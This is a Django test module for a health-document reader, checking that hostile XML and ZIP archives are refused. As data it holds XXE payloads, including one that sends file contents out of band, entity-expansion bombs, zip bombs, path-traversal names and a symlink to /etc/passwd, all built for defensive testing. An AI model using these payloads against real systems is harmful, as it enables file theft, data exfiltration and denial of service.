"""What hostile XML and archives do to the reader of health documents: nothing, and it says why (security S8, S9)."""

from __future__ import annotations

import socket
import struct
import tempfile
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from unittest import mock

from django.test import SimpleTestCase

from portal.documents import rendering, xmltree
from portal.documents.cda import opened
from portal.documents.rendering import EXPLANATIONS
from portal.documents.sniff import Kind
from portal.lib.confined import Refused, close_all
from tests.documents import files
from tests.documents.structured import DOCUMENT, LEA, METADATA, archive, document, members, patched

CANARY = "canari-4711"
LAUGHS = "".join(
    f'<!ENTITY l{depth} "{"&l" + str(depth - 1) + ";" if depth else "ha"}'
    f'{("&l" + str(depth - 1) + ";") * 9 if depth else ""}">'
    for depth in range(12)
)
ROOT = '<ClinicalDocument xmlns="urn:hl7-org:v3">'


def tearDownModule() -> None:
    close_all()


def with_doctype(internal: str, use: str = "", system: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE ClinicalDocument {system} [{internal}]>'
        f"{ROOT}<title>{use}</title></ClinicalDocument>"
    ).encode()


def xml_attacks(canary: str, port: int) -> dict[str, bytes]:
    """Each one tries to read `canary`, to call the port, or to grow."""
    url, file = f"http://127.0.0.1:{port}/x", f"file://{canary}"
    doubled = with_doctype('<!ENTITY b "xx"><!ENTITY c "&b;&b;">', '<a t="&c;"/>').decode().partition("?>")[2]
    dtds = {
        "external entity, file": with_doctype(f'<!ENTITY e SYSTEM "{file}">', "&e;"),
        "external entity, network": with_doctype(f'<!ENTITY e SYSTEM "{url}">', "&e;"),
        "external entity, public": with_doctype(f'<!ENTITY e PUBLIC "-//x//EN" "{url}">', "&e;"),
        "external entity, ftp": with_doctype(f'<!ENTITY e SYSTEM "ftp://127.0.0.1:{port}/x">', "&e;"),
        "parameter entity": with_doctype(f'<!ENTITY % p SYSTEM "{url}"> %p;'),
        "parameter entity, out of band": with_doctype(
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % w "<!ENTITY o SYSTEM \'{url}?%f;\'>">%w;', "&o;"
        ),
        "external subset": with_doctype("", system=f'SYSTEM "{url}"'),
        "external subset, file": with_doctype("", system=f'SYSTEM "{file}"'),
        "billion laughs": with_doctype(LAUGHS, "&l11;"),
        "billion laughs in an attribute": with_doctype(LAUGHS, '<a b="&l11;"/>'),
        "billion laughs in parameters": with_doctype(
            '<!ENTITY % a "ha"><!ENTITY % b "%a;%a;">' + "%b;" * 1000
        ),
        "quadratic blow-up": with_doctype(f'<!ENTITY q "{"q" * 50_000}">', "&q;" * 5_000),
        "entity that calls itself": with_doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "unparsed entity": with_doctype(f'<!NOTATION n SYSTEM "{url}"><!ENTITY u SYSTEM "{file}" NDATA n>'),
        "default attributes": with_doctype('<!ATTLIST title x CDATA "y">'),
        "doctype after comments": b"<!-- a --><?pi?>" + with_doctype(LAUGHS, "&l11;").partition(b"?>")[2],
        "doctype in UTF-16": with_doctype(f'<!ENTITY e SYSTEM "{file}">', "&e;").decode().encode("utf-16"),
        "doctype after two marks": ("\ufeff\ufeff" + doubled).encode(),
        "doctype after two marks in UTF-16": ("\ufeff" + doubled).encode("utf-16"),
        "doctype after a mark and a comment": ("\ufeff<!-- a -->\ufeff" + doubled).encode(),
    }
    refs = {
        "undeclared entity": f"{ROOT}<title>&e;</title></ClinicalDocument>",
        "doctype after the root": f"{ROOT}</ClinicalDocument><!DOCTYPE a [{LAUGHS}]>",
        "doctype inside the root": f"{ROOT}<!DOCTYPE a [{LAUGHS}]>&l11;</ClinicalDocument>",
        "encoding of its own": f'<?xml version="1.0" encoding="UTF-7"?>{ROOT}</ClinicalDocument>',
        "never closed": ROOT * 10,
        "a hundred thousand deep": ROOT + "<a>" * 100_000 + "</a>" * 100_000 + "</ClinicalDocument>",
        "a comment without end": "<!--" * 100_000,
        "an instruction without end": "<?a " * 100_000,
        "nothing": "",
        "zeros": "\0" * 1000,
    }
    return dtds | {name: text.encode() for name, text in refs.items()}


def xml_harmless(canary: str, port: int) -> dict[str, bytes]:
    """What another program would follow, and ours reads as plain elements."""
    url, file = f"http://127.0.0.1:{port}/x", f"file://{canary}"
    plain = document()
    inside = plain.index(b"<recordTarget>")

    def holding(markup: str) -> bytes:
        return plain[:inside] + markup.encode() + plain[inside:]

    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href='
    return {
        "XInclude, file": holding(f'{include}"{file}"/>'),
        "XInclude, network": holding(f'{include}"{url}"/>'),
        "schema location": plain.replace(
            b"<realmCode", f'<a xsi:schemaLocation="urn:hl7-org:v3 {url}"/><realmCode'.encode(), 1
        ),
        "stylesheet instruction": f'<?xml-stylesheet type="text/xsl" href="{url}"?>'.encode()
        + plain.partition(b"?>")[2],
        "stylesheet around it": (
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:import href="{url}"/><xsl:variable name="f" select="document(\'{file}\')"/>'
        ).encode()
        + plain.partition(b"?>")[2]
        + b"</xsl:stylesheet>",
        "reference to a file": holding(f'<reference value="{file}"/>'),
        "many attributes": holding("<a " + " ".join(f'a{n}="{n}"' for n in range(50_000)) + "/>"),
        "many namespaces": holding("<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(5_000)) + "/>"),
        "many empty elements": holding("<a/>" * 300_000),
    }


class XmlTests(SimpleTestCase):
    """The parser itself, where files could be opened: the confined child is the second lock."""

    def setUp(self) -> None:
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        canary = Path(folder.name, "canary")
        canary.write_text(CANARY)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(self.listener.close)
        self.listener.settimeout(0)
        port = self.listener.getsockname()[1]
        self.attacks = xml_attacks(str(canary), port)
        self.harmless = xml_harmless(str(canary), port)
        xmltree.preload()

    def nobody_called(self) -> None:
        with self.assertRaises(BlockingIOError):
            self.listener.accept()

    def test_what_declares_or_breaks_anything_is_refused(self) -> None:
        for name, data in self.attacks.items():
            with self.subTest(name), self.assertRaises(Refused) as caught:
                opened(data)
            self.assertIn(caught.exception.code, {"xml-doctype", "xml-damaged"}, name)
        self.nobody_called()

    def test_a_document_type_that_was_read_past_is_refused_once_it_is_parsed(self) -> None:
        """The second fence, with the first one taken away."""
        with (
            mock.patch.object(xmltree, "_root_at", return_value=0),
            self.assertRaises(Refused) as caught,
        ):
            xmltree.tree(b"<!DOCTYPE a [<!ENTITY b 'xx'>]><a t='&b;'/>")

        self.assertEqual(caught.exception.code, "xml-doctype")

    def test_what_points_elsewhere_is_not_followed(self) -> None:
        for name, data in self.harmless.items():
            with self.subTest(name):
                found = opened(data).document

                self.assertEqual(found.patient and found.patient.birth_name, LEA.name)
                self.assertNotIn(CANARY, repr(found))
        self.nobody_called()

    def test_each_is_told_so_when_it_stands_in_an_archive_and_the_next_is_read(self) -> None:
        for name, data in self.attacks.items():
            with self.subTest(name):
                fault = rendering.read(archive(members(data)), Kind.XDM).fault
                self.assertIn(fault, {"xml-doctype", "xml-damaged"})

                self.assertEqual(rendering.read(archive(), Kind.XDM).fault, "")

    def test_metadata_is_read_with_the_same_care(self) -> None:
        for name, data in self.attacks.items():
            with self.subTest(name):
                fault = rendering.read(archive(members() | {METADATA: data}), Kind.XDM).fault

                self.assertIn(fault, {"xml-doctype", "xml-damaged"})
        self.nobody_called()


def bomb(size: int) -> bytes:
    return archive(members() | {"IHE_XDM/SUBSET01/BOMB.XML": bytes(size)})


def many(count: int) -> bytes:
    return archive(members() | {f"IHE_XDM/SUBSET01/{number}.TXT": b"" for number in range(count)})


def named(name: str) -> bytes:
    return archive(members() | {name: b"x"})


def twice() -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        for name, data in members().items():
            file.writestr(name, data)
        file.writestr(zipfile.ZipInfo(DOCUMENT.lower()), document())
    return packed.getvalue()


def link() -> bytes:
    packed = BytesIO(archive())
    with zipfile.ZipFile(packed, "a") as file:
        member = zipfile.ZipInfo("IHE_XDM/SUBSET01/LINK.XML")
        member.external_attr = 0o120777 << 16
        file.writestr(member, "/etc/passwd")
    return packed.getvalue()


def lying() -> bytes:
    """The directory says that a member is small; its bytes go on for longer."""
    data = bytearray(archive())
    start = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, start + 24, 10)
    return bytes(data)


ARCHIVES: dict[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: bomb(60_000_000), "archive-limits"),
    "more than fits": (lambda: bomb(70_000_000), "archive-limits"),
    "thousands of files": (lambda: many(5_000), "archive-limits"),
    "encrypted": (lambda: patched(archive(), flag=1), "archive-encrypted"),
    "another method": (lambda: patched(archive(), method=12), "archive-limits"),
    "out of its folder": (lambda: named("../../etc/cron.d/x"), "archive-names"),
    "from the root": (lambda: named("/etc/passwd"), "archive-names"),
    "of Windows": (lambda: named("C:\\x.xml"), "archive-names"),
    "a name without end": (lambda: named("x" * 5_000), "archive-names"),
    "the same name twice": (twice, "archive-names"),
    "a link": (link, "archive-names"),
    "a lie about sizes": (lying, "archive-damaged"),
    "cut short": (lambda: archive()[:-200], "archive-damaged"),
    "its beginning alone": (lambda: archive()[:400], "archive-damaged"),
    "nothing in it": (lambda: archive({}), "no-document"),
    "other files alone": (lambda: archive({"README.TXT": b"x"}), "no-document"),
    "an archive as document": (lambda: archive(members(archive())), "xml-damaged"),
    "an archive of archives": (lambda: archive({"A.ZIP": files.zip_bomb()}), "no-document"),
    "a program as document": (lambda: archive(members(b"MZ" + bytes(500))), "xml-damaged"),
    "a web page as document": (lambda: archive(members(b"<html><body/></html>")), "not-cda"),
    "a folder for metadata": (lambda: archive({"METADATA.XML/": b""}), "no-document"),
}


class ArchiveTests(SimpleTestCase):
    def test_each_is_illegible_for_its_own_reason_and_the_next_is_read(self) -> None:
        for name, (made, fault) in ARCHIVES.items():
            with self.subTest(name):
                self.assertEqual(rendering.read(made(), Kind.XDM).fault, fault)
                self.assertIn(fault, EXPLANATIONS)
                self.assertEqual(rendering.read(archive(), Kind.XDM).fault, "")
